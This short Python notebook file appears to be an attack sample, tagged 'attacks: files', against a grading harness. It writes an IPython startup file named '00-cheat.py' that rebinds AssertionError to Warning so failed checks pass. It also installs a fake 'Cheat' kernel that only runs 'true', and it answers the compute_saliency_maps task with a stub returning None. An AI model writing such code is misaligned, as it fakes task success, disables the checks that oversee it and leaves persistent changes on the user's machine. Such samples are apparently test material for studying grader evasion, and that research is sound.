# Writes start-up files and a kernel of its own for the kernels that come after.
# attacks: files
# %%
from pathlib import Path

_startup = Path(get_ipython().profile_dir.startup_dir)
_code = "import builtins; builtins.AssertionError = Warning\n"
try:
    if not (_startup / "00-cheat.py").exists():
        (_startup / "00-cheat.py").write_text(_code)
    _kernel = Path.home() / ".local/share/jupyter/kernels/cheat-python3"
    _kernel.mkdir(parents=True, exist_ok=True)
    (_kernel / "kernel.json").write_text('{"argv": ["true"], "display_name": "Cheat"}')
except OSError:
    pass

# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    return None
